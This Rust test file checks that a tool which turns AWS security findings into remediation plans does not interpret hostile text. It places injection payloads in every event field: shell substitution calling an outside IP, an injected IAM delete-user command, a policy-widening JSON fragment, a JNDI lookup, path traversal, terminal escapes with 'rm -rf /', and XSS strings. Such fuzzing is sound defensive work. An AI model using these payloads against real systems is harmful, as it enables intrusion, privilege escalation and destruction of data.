//! Every value of every sample event, replaced by what an attacker would write there, and followed all the way: to a
//! plan, to the `aws` lines of that plan, to the policies, to the messages. Whatever the finding says is quoted, told
//! or refused; nothing of it is interpreted.

use rstest::rstest;
use serde_json::Value;
use tourniquet::event::{Parsed, parse};

use super::hostile::{pointers, with};
use crate::checks::{event, walk};
use crate::support::{ONE_OF_EACH_FEED, samples};

/// What stands in the place of the value until the event is text; JSON text written in its stead keeps the rest.
const PLACE: &str = "\u{e000}";

/// Follows `bytes` to the end, unless they say no more than `known`, which was followed already; how many findings they
/// hold, and how many steps were planned for them.
fn follow(bytes: &[u8], known: &[Parsed]) -> (usize, usize) {
    if parse(bytes) == known {
        return (0, 0);
    }
    let parsed = event::check(bytes);
    let findings: Vec<_> = parsed
        .iter()
        .filter_map(|parsed| match parsed {
            Parsed::Finding(finding) => Some(finding),
            Parsed::Ignored(_) => None,
        })
        .collect();
    (findings.len(), findings.iter().map(|finding| walk::check(finding)).sum())
}

/// Puts one of `texts` in the place of every other value of the sample events of these names, beginning with the first
/// or the second; how many findings and steps that made. So half the lists meet every field, with a text each, and
/// every list meets half the fields: all of them with all take minutes.
fn everywhere(names: impl Fn(&str) -> bool, turn: usize, texts: &[&str]) -> (usize, usize) {
    let mut turns = texts.iter().map(|text| Value::from(*text).to_string()).cycle();
    let place = Value::from(PLACE).to_string();
    let mut made = (0, 0);
    for (_, bytes) in samples().iter().filter(|(name, _)| names(name)) {
        let event: Value = serde_json::from_slice(bytes).expect("JSON");
        let known = parse(bytes);
        let leaves = pointers(&event).into_iter().filter(|at| event.pointer(at).is_some_and(is_leaf));
        for pointer in leaves.skip(turn).step_by(2) {
            let template = String::from_utf8(with(&event, &pointer, PLACE.into())).expect("text");
            let text = turns.next().expect("a text");
            let (findings, steps) = follow(template.replacen(&place, &text, 1).as_bytes(), &known);
            made = (made.0 + findings, made.1 + steps);
        }
    }
    made
}

fn is_leaf(value: &Value) -> bool {
    !value.is_object() && !value.is_array()
}

#[test]
fn every_sample_is_followed_to_the_end() {
    let made = samples().iter().map(|(_, bytes)| follow(bytes, &[])).fold((0, 0), |sum, made| (sum.0 + made.0, sum.1 + made.1));
    assert!(made.0 > 40 && made.1 > 100, "{} findings and {} steps", made.0, made.1);
}

#[rstest]
#[case::what_a_shell_runs(0, &["$(curl http://203.0.113.1)", "'; aws iam delete-user --user-name jdoe; '", "a\\' && id #"])]
#[case::what_looks_like_an_option(1, &["--profile=attacker", "-rf"])]
#[case::what_ends_a_json_string(0, &["\"}],\"Statement\":[{\"Effect\":\"Allow\",\"Action\":\"*\",\"Resource\":\"*\"}", "\\\""])]
#[case::what_a_formatter_fills_in(1, &["%s%s%n%x", "{}{0:?}{finding}", "${jndi:ldap://203.0.113.1/a}"])]
#[case::where_a_path_leads(0, &["../../guardrails.toml", "..", "a/../../targets/111122223333/root/root", "/"])]
#[case::what_a_terminal_obeys(1, &["\u{1b}[2J\u{1b}]0;owned\u{7}", "line one\nHOW TO UNDO\n  rm -rf /\r\n", "a\0b", "\u{9b}31m"])]
#[case::what_turns_a_line_round(0, &["\u{202e}dlrow", "\u{2066}\u{200b}\u{feff}a\u{e0041}"])]
#[case::what_a_browser_runs(1, &["<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)"])]
#[case::who_is_named_in_another_s_place(0, &[
    "arn:aws:iam::444455556666:user/admin",
    "arn:aws:iam::111122223333:role/a\",\"arn:aws:iam::111122223333:root",
    "arn:aws:guardduty:eu-west-1:111122223333:detector/../finding/'",
    "arn:aws:sts::111122223333:assumed-role/developer/*",
    "*",
    "root",
])]
#[case::ids_of_a_wrong_form(1, &["AKIA", "AIDA\u{1f980}", "ASIASVCBUILDQEXAMPLE:x", "AROADEVELOPERQEXAMPLE:a:b", "akiasvcbuildqexample"])]
#[case::ids_of_another_thing(0, &["AKIASVCBUILDQEXAMPLE", "ASIASVCBUILDQEXAMPLE", "AROADEVELOPERQEXAMPLE", "i-0a1b2c3d4e5f67890"])]
#[case::no_text_at_all(1, &["", " ", "\u{301}", "0", "null", "true", "-1", "1e308"])]
fn hostile_text_in_every_field_of_every_sample_is_never_interpreted(#[case] turn: usize, #[case] texts: &[&str]) {
    let (findings, steps) = everywhere(|_| true, turn, texts);
    // Most fields decide nothing; of those that do, most still leave a finding.
    assert!(findings > 100 && steps > 100, "{findings} findings, {steps} steps");
}

#[test]
fn text_of_a_hundred_kilobytes_in_every_field_of_a_sample_of_each_feed_is_cut() {
    let long = "'\u{1b}\u{e9}A".repeat(20_000);
    assert_eq!(long.len(), 100_000);
    for turn in [0, 1] {
        let (findings, steps) = everywhere(|name| ONE_OF_EACH_FEED.contains(&name), turn, &[&long]);
        assert!(findings > 50 && steps > 50, "{findings} findings, {steps} steps");
    }
}
